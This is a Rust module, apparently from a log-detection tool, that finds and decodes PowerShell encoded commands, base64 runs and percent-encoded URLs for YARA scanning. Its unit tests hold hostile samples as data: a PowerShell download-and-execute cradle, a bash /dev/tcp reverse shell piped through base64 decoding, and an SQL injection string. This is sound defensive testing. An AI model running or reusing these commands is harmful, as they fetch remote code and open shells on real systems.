//! Finding and decoding the hidden payloads YARA rules should see in clear: PowerShell
//! `-EncodedCommand` arguments (base64 of UTF-16LE), other long base64 runs, and
//! percent-encoded URLs.
//!
//! Everything here works on untrusted text and never panics: positions come from byte scans
//! over ASCII characters, so slicing never splits a UTF-8 character.

use base64::Engine as _;

/// Base64 runs shorter than this are left alone: short runs are mostly words, hashes and ids,
/// and decoding them yields noise.
pub(crate) const MIN_BASE64_RUN: usize = 40;

/// How a decoded payload was obtained (goes to the alert's `details.decoding`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Decoding {
    /// Base64 whose bytes are UTF-16LE text (PowerShell `-EncodedCommand`), turned into UTF-8.
    Base64Utf16,
    /// Base64 scanned as the decoded bytes.
    Base64,
    /// Percent-encoding (`%27`, `+` for space) of URLs.
    Percent,
}

impl Decoding {
    /// The name used in alert details.
    pub(crate) fn as_str(self) -> &'static str {
        match self {
            Decoding::Base64Utf16 => "base64-utf16le",
            Decoding::Base64 => "base64",
            Decoding::Percent => "percent",
        }
    }
}

/// Which bytes are base64 characters (standard and URL-safe alphabets, `=` padding).
const BASE64_BYTE: [bool; 256] = {
    let mut table = [false; 256];
    let mut byte = 0;
    while byte < 256 {
        let character = byte as u8;
        table[byte] = character.is_ascii_alphanumeric()
            || matches!(character, b'+' | b'/' | b'=' | b'-' | b'_');
        byte += 1;
    }
    table
};

fn is_base64_byte(byte: u8) -> bool {
    BASE64_BYTE[usize::from(byte)]
}

/// The base64 runs of at least `min_len` characters in `text`, as byte ranges. A run is a
/// maximal stretch of base64 characters (standard or URL-safe alphabet, `=` padding).
///
/// Runs every target of every event through here, so it skips: a window of `min_len`
/// bytes is checked from its end, and the first non-base64 byte found moves the window past
/// it. Ordinary log text has a space or punctuation every few bytes, so most windows cost a
/// handful of byte checks.
pub(crate) fn base64_runs(text: &[u8], min_len: usize) -> Vec<std::ops::Range<usize>> {
    let mut runs = Vec::new();
    let min_len = min_len.max(1);
    let mut start: usize = 0;
    while let Some(window) = text.get(start..start.saturating_add(min_len)) {
        match window.iter().rposition(|&byte| !is_base64_byte(byte)) {
            Some(last_bad) => start += last_bad + 1,
            None => {
                // `start` begins a run (the byte before it, if any, is not base64): extend it.
                let rest = text.get(start + min_len..).unwrap_or_default();
                let end = start
                    + min_len
                    + rest
                        .iter()
                        .position(|&byte| !is_base64_byte(byte))
                        .unwrap_or(rest.len());
                runs.push(start..end);
                start = end + 1;
            }
        }
    }
    runs
}

/// True when `needle` occurs in `haystack`. Called for every field of every event (is its
/// text already in the raw record?), on short texts where building a full searcher costs
/// more than the search: the first places where a rare byte of the needle occurs are tried
/// directly, and only past a few misses does a linear-time Rabin-Karp search take over.
pub(crate) fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    if needle.is_empty() {
        return true;
    }
    if needle.len() > haystack.len() {
        return false;
    }
    let (anchor_offset, anchor) = rare_byte(needle);
    let last_start = haystack.len() - needle.len();
    let window = haystack
        .get(anchor_offset..=last_start + anchor_offset)
        .unwrap_or_default();
    for (tries, position) in memchr::memchr_iter(anchor, window).enumerate() {
        if tries == 8 {
            let finder = memchr::arch::all::rabinkarp::Finder::new(needle);
            return finder.find(haystack, needle).is_some();
        }
        // The last byte first: it rejects most candidates without a `memcmp` call.
        if haystack.get(position + needle.len() - 1) == needle.last()
            && haystack.get(position..position + needle.len()) == Some(needle)
        {
            return true;
        }
    }
    false
}

/// How common a byte is in log text, 0 (rare) to 4: spaces, quotes, separators, digits and
/// lower-case letters are everywhere; upper-case letters and other punctuation are rarer.
const BYTE_RANK: [u8; 256] = {
    let mut table = [0u8; 256];
    let mut byte = 0;
    while byte < 256 {
        let character = byte as u8;
        table[byte] = match character {
            b' ' | b'"' | b'\\' | b'/' | b':' | b',' | b'=' | b'.' | b'-' => 4,
            b'a'..=b'z' | b'0'..=b'9' => 3,
            b'_' | b'\t' | b'{' | b'}' | b'[' | b']' => 2,
            b'A'..=b'Z' => 1,
            _ => 0,
        };
        byte += 1;
    }
    table
};

/// The least common byte among the first 16 of `needle` and its offset.
fn rare_byte(needle: &[u8]) -> (usize, u8) {
    let mut best = (0, needle.first().copied().unwrap_or_default());
    let mut best_rank = u8::MAX;
    for (offset, &byte) in needle.iter().take(16).enumerate() {
        let rank = BYTE_RANK[usize::from(byte)];
        if rank < best_rank {
            best = (offset, byte);
            best_rank = rank;
            if rank == 0 {
                break;
            }
        }
    }
    best
}

/// Base64 engines that accept what senders actually produce: padding or not, and a last
/// character with stray low bits (a run cut at the scan limit ends anywhere).
const LENIENT: base64::engine::GeneralPurposeConfig = base64::engine::GeneralPurposeConfig::new()
    .with_decode_allow_trailing_bits(true)
    .with_decode_padding_mode(base64::engine::DecodePaddingMode::Indifferent);
const STANDARD: base64::engine::GeneralPurpose =
    base64::engine::GeneralPurpose::new(&base64::alphabet::STANDARD, LENIENT);
const URL_SAFE: base64::engine::GeneralPurpose =
    base64::engine::GeneralPurpose::new(&base64::alphabet::URL_SAFE, LENIENT);

/// Decodes a base64 run (standard or URL-safe, padded or not). A trailing character that
/// does not make a whole byte is dropped, so a run glued to a following word still decodes.
pub(crate) fn decode_base64(run: &[u8]) -> Option<Vec<u8>> {
    let trimmed = trim_padding(run);
    let usable = match trimmed.len() % 4 {
        1 => trimmed.get(..trimmed.len() - 1)?,
        _ => trimmed,
    };
    if usable.is_empty() {
        return None;
    }
    let url_safe = usable.iter().any(|&byte| byte == b'-' || byte == b'_');
    let engine = if url_safe { &URL_SAFE } else { &STANDARD };
    engine.decode(usable).ok()
}

fn trim_padding(run: &[u8]) -> &[u8] {
    let mut end = run.len();
    while end > 0 && run.get(end - 1) == Some(&b'=') {
        end -= 1;
    }
    run.get(..end).unwrap_or(run)
}

/// True when `bytes` look like UTF-16LE text: mostly zero high bytes on ASCII characters,
/// which is what PowerShell's `-EncodedCommand` carries. An odd last byte (a run cut at the
/// scan limit) is ignored.
pub(crate) fn looks_like_utf16le(bytes: &[u8]) -> bool {
    if bytes.len() < 4 {
        return false;
    }
    let pairs = bytes.len() / 2;
    let ascii_pairs = bytes
        .chunks_exact(2)
        .filter(|pair| matches!(pair, [low, 0] if *low != 0))
        .count();
    // Allow some non-ASCII characters (Vietnamese text in a script), but most of a command
    // is ASCII.
    ascii_pairs * 10 >= pairs * 7
}

/// UTF-16LE bytes as UTF-8 text; invalid code units become U+FFFD.
pub(crate) fn utf16le_to_utf8(bytes: &[u8]) -> Vec<u8> {
    let units = bytes.chunks_exact(2).map(|pair| match pair {
        [low, high] => u16::from_le_bytes([*low, *high]),
        _ => 0,
    });
    char::decode_utf16(units)
        .map(|unit| unit.unwrap_or(char::REPLACEMENT_CHARACTER))
        .collect::<String>()
        .into_bytes()
}

/// True when the decoded bytes are worth scanning: mostly printable text or clearly binary
/// content with some structure. Random-looking output of a word that happened to be valid
/// base64 is not: we require that at least half the bytes be printable ASCII or whitespace.
pub(crate) fn worth_scanning(bytes: &[u8]) -> bool {
    if bytes.is_empty() {
        return false;
    }
    let printable = bytes
        .iter()
        .filter(|byte| byte.is_ascii_graphic() || byte.is_ascii_whitespace())
        .count();
    printable * 2 >= bytes.len()
}

/// The argument of a PowerShell `-EncodedCommand` (any unambiguous abbreviation: `-e`, `-en`,
/// `-enc`, …, or `-ec`; `/` works as the flag prefix too) in a command line: the byte range
/// of the base64 text, quotes excluded.
pub(crate) fn powershell_encoded_arguments(command_line: &[u8]) -> Vec<std::ops::Range<usize>> {
    let mut found = Vec::new();
    let mut position = 0;
    while let Some(relative) =
        memchr::memchr2(b'-', b'/', command_line.get(position..).unwrap_or_default())
    {
        let flag_start = position + relative;
        position = flag_start + 1;
        // A flag starts a word.
        if flag_start > 0
            && !matches!(
                command_line.get(flag_start - 1),
                Some(b' ' | b'\t' | b'"' | b'\'')
            )
        {
            continue;
        }
        let name_end = command_line
            .get(position..)
            .unwrap_or_default()
            .iter()
            .position(|byte| !byte.is_ascii_alphabetic())
            .map_or(command_line.len(), |offset| position + offset);
        let name = command_line.get(position..name_end).unwrap_or_default();
        if !is_encoded_command_flag(name) {
            continue;
        }
        let argument_start = skip_spaces_and_quote(command_line, name_end);
        if argument_start == name_end {
            // The flag must be followed by whitespace.
            continue;
        }
        let argument_end = command_line
            .get(argument_start..)
            .unwrap_or_default()
            .iter()
            .position(|&byte| !is_base64_byte(byte))
            .map_or(command_line.len(), |offset| argument_start + offset);
        if argument_end > argument_start {
            found.push(argument_start..argument_end);
        }
        position = argument_end.max(position);
    }
    found
}

fn is_encoded_command_flag(name: &[u8]) -> bool {
    const FULL: &[u8] = b"encodedcommand";
    let abbreviation = name.len() <= FULL.len()
        && FULL
            .get(..name.len())
            .is_some_and(|prefix| prefix.eq_ignore_ascii_case(name));
    !name.is_empty() && (name.eq_ignore_ascii_case(b"ec") || abbreviation)
}

fn skip_spaces_and_quote(text: &[u8], from: usize) -> usize {
    let mut index = from;
    while matches!(text.get(index), Some(b' ' | b'\t')) {
        index += 1;
    }
    if index == from {
        return from;
    }
    if matches!(text.get(index), Some(b'"' | b'\'')) {
        index += 1;
    }
    index
}

/// Percent-decodes a URL or query string (`+` becomes a space). Returns `None` when there is
/// nothing to decode. Invalid escapes are kept as written.
pub(crate) fn percent_decode(text: &[u8]) -> Option<Vec<u8>> {
    memchr::memchr2(b'%', b'+', text)?;
    let mut decoded = Vec::with_capacity(text.len());
    let mut index = 0;
    while let Some(&byte) = text.get(index) {
        match byte {
            b'%' => match (
                text.get(index + 1).and_then(hex_value),
                text.get(index + 2).and_then(hex_value),
            ) {
                (Some(high), Some(low)) => {
                    decoded.push(high << 4 | low);
                    index += 3;
                    continue;
                }
                _ => decoded.push(b'%'),
            },
            b'+' => decoded.push(b' '),
            other => decoded.push(other),
        }
        index += 1;
    }
    (decoded != text).then_some(decoded)
}

fn hex_value(byte: &u8) -> Option<u8> {
    match byte {
        b'0'..=b'9' => Some(byte - b'0'),
        b'a'..=b'f' => Some(byte - b'a' + 10),
        b'A'..=b'F' => Some(byte - b'A' + 10),
        _ => None,
    }
}

/// Decodes one base64 payload into what YARA should scan: UTF-16LE text becomes UTF-8, other
/// bytes are kept when they look like content. `None` when the run is not base64 or decodes
/// to noise.
pub(crate) fn decode_payload(run: &[u8]) -> Option<(Vec<u8>, Decoding)> {
    let bytes = decode_base64(run)?;
    if looks_like_utf16le(&bytes) {
        return Some((utf16le_to_utf8(&bytes), Decoding::Base64Utf16));
    }
    worth_scanning(&bytes).then_some((bytes, Decoding::Base64))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn utf16_base64(text: &str) -> String {
        let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn finds_every_spelling_of_the_encoded_command_flag() {
        let payload = utf16_base64("IEX (New-Object Net.WebClient).DownloadString('http://x/a')");
        for flag in [
            "-e",
            "-en",
            "-enc",
            "-EncodedCommand",
            "-ENCODEDCOMMAND",
            "-ec",
            "/enc",
            "-encod",
        ] {
            let line = format!("powershell.exe -nop -w hidden {flag} {payload}");
            let ranges = powershell_encoded_arguments(line.as_bytes());
            assert_eq!(ranges.len(), 1, "{flag}");
            let argument = ranges
                .first()
                .and_then(|range| line.get(range.clone()))
                .unwrap_or_default();
            assert_eq!(argument, payload, "{flag}");
        }
        let quoted = format!("powershell -enc \"{payload}\"");
        assert_eq!(powershell_encoded_arguments(quoted.as_bytes()).len(), 1);
        // -ExecutionPolicy is not an abbreviation of -EncodedCommand.
        assert!(
            powershell_encoded_arguments(b"powershell -ExecutionPolicy Bypass -File x.ps1")
                .is_empty()
        );
        assert!(powershell_encoded_arguments(b"cmd.exe /c echo -e").is_empty());
    }

    /// The decoded bytes and how, or nothing.
    fn decoded(run: &[u8]) -> (Vec<u8>, Option<Decoding>) {
        match decode_payload(run) {
            Some((bytes, decoding)) => (bytes, Some(decoding)),
            None => (Vec::new(), None),
        }
    }

    #[test]
    fn encoded_command_decodes_to_utf8_text() {
        let payload = utf16_base64(
            "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
        );
        let (text, decoding) = decoded(payload.as_bytes());
        assert_eq!(decoding, Some(Decoding::Base64Utf16));
        assert_eq!(
            String::from_utf8_lossy(&text),
            "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"
        );
        // Cut anywhere (the scan limit), it still decodes the part that is there.
        let cut = payload.get(..41).unwrap_or_default();
        let (text, _) = decoded(cut.as_bytes());
        assert!(
            String::from_utf8_lossy(&text).starts_with("IEX (New-Obj"),
            "{}",
            String::from_utf8_lossy(&text)
        );
    }

    #[test]
    fn plain_base64_runs_are_found_and_decoded() {
        let encoded = base64::engine::general_purpose::STANDARD
            .encode("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
        let line = format!("echo {encoded} | base64 -d | bash");
        let runs = base64_runs(line.as_bytes(), MIN_BASE64_RUN);
        assert_eq!(runs.len(), 1);
        let run = runs
            .first()
            .and_then(|range| line.as_bytes().get(range.clone()))
            .unwrap_or_default();
        let (bytes, decoding) = decoded(run);
        assert_eq!(decoding, Some(Decoding::Base64));
        assert_eq!(bytes, b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
        // Short runs are ignored, and so is random binary output.
        assert!(base64_runs(b"user=admin id=12345", MIN_BASE64_RUN).is_empty());
        assert!(decode_payload(&[b'A'; 3]).is_none());
    }

    #[test]
    fn runs_are_maximal_and_found_anywhere() {
        let long = "A".repeat(45);
        let run = |range: std::ops::Range<usize>| vec![range];
        for (text, expected) in [
            (long.clone(), run(0..45)),
            (format!("x {long} y"), run(2..47)),
            (format!("{long} {long}"), [0..45, 46..91].to_vec()),
            (format!("{}.{}", "B".repeat(39), "C".repeat(39)), Vec::new()),
            (format!("-_=+/{long}"), run(0..50)),
        ] {
            assert_eq!(
                base64_runs(text.as_bytes(), MIN_BASE64_RUN),
                expected,
                "{text}"
            );
        }
        // The skipping scan finds exactly what a plain scan finds.
        let mixed: Vec<u8> = (0..5000u32)
            .map(|index| {
                if index % 97 < 50 {
                    b'Q'
                } else if index % 7 == 0 {
                    b' '
                } else {
                    b'z'
                }
            })
            .collect();
        let plain: Vec<std::ops::Range<usize>> = {
            let mut runs = Vec::new();
            let mut begin = None;
            for (index, byte) in mixed.iter().chain(std::iter::once(&b' ')).enumerate() {
                match (is_base64_byte(*byte), begin) {
                    (true, None) => begin = Some(index),
                    (false, Some(first)) => {
                        if index - first >= MIN_BASE64_RUN {
                            runs.push(first..index);
                        }
                        begin = None;
                    }
                    _ => {}
                }
            }
            runs
        };
        assert_eq!(base64_runs(&mixed, MIN_BASE64_RUN), plain);
    }

    #[test]
    fn contains_finds_needles_like_memmem() {
        let haystack = b"aaaaaaaaaaaaaaaaaaaaab needle in a haystack aab";
        for needle in [
            &b"needle"[..],
            b"aab",
            b"aaab",
            b"haystack aab",
            b"",
            b"absent",
            b"aaaaaaaaaaaaaaaaaaaaab",
        ] {
            assert_eq!(
                contains(haystack, needle),
                memchr::memmem::find(haystack, needle).is_some(),
                "{}",
                String::from_utf8_lossy(needle)
            );
        }
        assert!(!contains(b"ab", b"abc"));
    }

    #[test]
    fn percent_decoding_handles_plus_and_bad_escapes() {
        assert_eq!(
            percent_decode(b"/a?id=1%27%20UNION+SELECT%2").as_deref(),
            Some(&b"/a?id=1' UNION SELECT%2"[..])
        );
        assert_eq!(percent_decode(b"/plain/path"), None);
        assert_eq!(percent_decode(b"%zz"), None);
    }

    #[test]
    fn decoders_never_panic_on_odd_input() {
        for input in [
            &b""[..],
            b"-",
            b"-e",
            b"-e ",
            b"-e \"",
            b"%",
            b"%4",
            b"====",
            b"\xff\xfe-enc \xff",
            b"A===",
            b"-ec\t",
        ] {
            let _ = powershell_encoded_arguments(input);
            let _ = percent_decode(input);
            let _ = base64_runs(input, 1);
            let _ = decode_payload(input);
        }
    }
}
